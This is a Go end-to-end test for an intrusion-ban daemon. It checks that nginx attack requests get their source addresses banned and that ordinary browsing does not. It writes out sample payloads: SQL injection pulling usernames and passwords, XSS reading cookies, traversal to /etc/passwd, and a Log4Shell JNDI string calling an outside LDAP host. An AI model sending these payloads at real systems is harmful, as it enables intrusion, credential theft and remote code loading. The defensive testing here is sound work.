package e2e

import (
	"context"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestNginxWebAttacks runs a real nginx in the server namespace, logging
// to an access log that a rampart jail with filter = "web-attacks" reads.
// Attackers send one real attack each with curl (SQL injection in the
// query, XSS in a parameter, path traversal, Log4Shell in the user agent):
// each is banned after that one request, and its next request gets no
// answer. A legitimate client browsing with quotes, ampersands and long
// links in its searches is never banned.
func TestNginxWebAttacks(t *testing.T) {
	nginx, err := exec.LookPath("nginx")
	if err != nil {
		t.Skip("skipping: nginx is not installed (Debian package nginx-light; scripts/deps.sh installs it)")
	}
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("skipping: curl is not installed")
	}
	tp := newTopology(t)
	dir := t.TempDir()
	accessLog := filepath.Join(dir, "access.log")
	if err := os.WriteFile(accessLog, nil, 0o640); err != nil {
		t.Fatal(err)
	}
	conf := fmt.Sprintf(`user root;
worker_processes 1;
pid %[1]s/nginx.pid;
error_log %[1]s/error.log;
events { worker_connections 64; }
http {
	access_log %[2]s combined;
	client_body_temp_path %[1]s/body;
	proxy_temp_path %[1]s/proxy;
	fastcgi_temp_path %[1]s/fastcgi;
	uwsgi_temp_path %[1]s/uwsgi;
	scgi_temp_path %[1]s/scgi;
	server {
		listen 80;
		listen [::]:80;
		location / { default_type text/plain; return 200 "ok\n"; }
	}
}
`, dir, accessLog)
	confPath := filepath.Join(dir, "nginx.conf")
	if err := os.WriteFile(confPath, []byte(conf), 0o600); err != nil {
		t.Fatal(err)
	}
	startProc(t, "nginx", tp.server.Command(context.Background(), nginx, "-c", confPath, "-g", "daemon off;"))

	cfgText := fmt.Sprintf(`[daemon]
state_dir = %q
socket = %q
firewall = "nftables"
log_level = "debug"

[jails.sshd]
enabled = false

[jails.web]
enabled = true
filter = "web-attacks"
logpath = [%q]
port = "http,https"
maxretry = 5
bantime = "1h"
`, filepath.Join(dir, "state"), filepath.Join(dir, "rampart.sock"), accessLog)
	cfgPath := filepath.Join(dir, "rampart.toml")
	if err := os.WriteFile(cfgPath, []byte(cfgText), 0o600); err != nil {
		t.Fatal(err)
	}
	d := startDaemon(t, t, tp.server, filepath.Join(dir, "rampart.sock"), "--config", cfgPath)

	// request sends one request from ns with source address src and
	// returns the HTTP status ("000": no answer within 2 s).
	request := func(t *testing.T, from string, src netip.Addr, target string, extra ...string) string {
		t.Helper()
		ns := tp.attacker
		host := serverV4
		if from == "client" {
			ns, host = tp.client, serverV4c
		}
		argv := append([]string{"curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "2", "--path-as-is", "--interface", src.String()}, extra...)
		argv = append(argv, "http://"+host.String()+target)
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		out, _ := ns.Exec(ctx, argv...)
		return strings.TrimSpace(out)
	}
	get := func(t *testing.T, from string, src netip.Addr, target string, extra ...string) bool {
		return request(t, from, src, target, extra...) == "200"
	}
	attacks := []struct {
		name   string
		target string
		extra  []string
	}{
		{"sql injection", "/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", nil},
		{"xss", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", nil},
		{"traversal", "/static/../../../../etc/passwd", nil},
		{"log4shell", "/", []string{"-A", "${jndi:ldap://203.0.113.7:1389/Exploit}"}},
	}
	browse := []string{
		"/", "/search?q=o%27reilly+%26+sons", "/search?q=%22select+a+size%22", "/products?page=2&sort=price",
		"/blog/2026/12/why-we-love-postgres?utm_source=newsletter&utm_medium=email&utm_campaign=winter",
		"/search?q=%3C3+for+my+cat", "/api/v1/items?ids=1,2,3&fields=name,price",
	}
	for i, a := range attacks {
		src := attackerAddr(i, false)
		t.Run(a.name, func(t *testing.T) {
			// nginx itself answers 400 to a path above its root: the
			// request is logged all the same, and is an attack all the same.
			if code := request(t, "attacker", src, a.target, a.extra...); code == "000" || code == "" {
				t.Fatalf("%s: the attack request itself got no answer (nginx down?)", src)
			}
			if !waitFor(10*time.Second, func() bool { _, ok := d.banned(t)[single(src)]; return ok }) {
				t.Fatalf("%s not banned within 10 s of one %s request", src, a.name)
			}
			if get(t, "attacker", src, "/") {
				t.Errorf("%s is banned but its next request was answered", src)
			}
		})
		for _, p := range browse {
			if !get(t, "client", clientV4, p) {
				t.Errorf("the legitimate client's request %s got no answer", p)
			}
		}
	}
	time.Sleep(500 * time.Millisecond)
	if j, ok := d.banned(t)[single(clientV4)]; ok {
		t.Errorf("the legitimate client was banned (jail %s)", j)
	}
	if n := len(d.banned(t)); n != len(attacks) {
		t.Errorf("%d bans, want the %d attackers", n, len(attacks))
	}
}
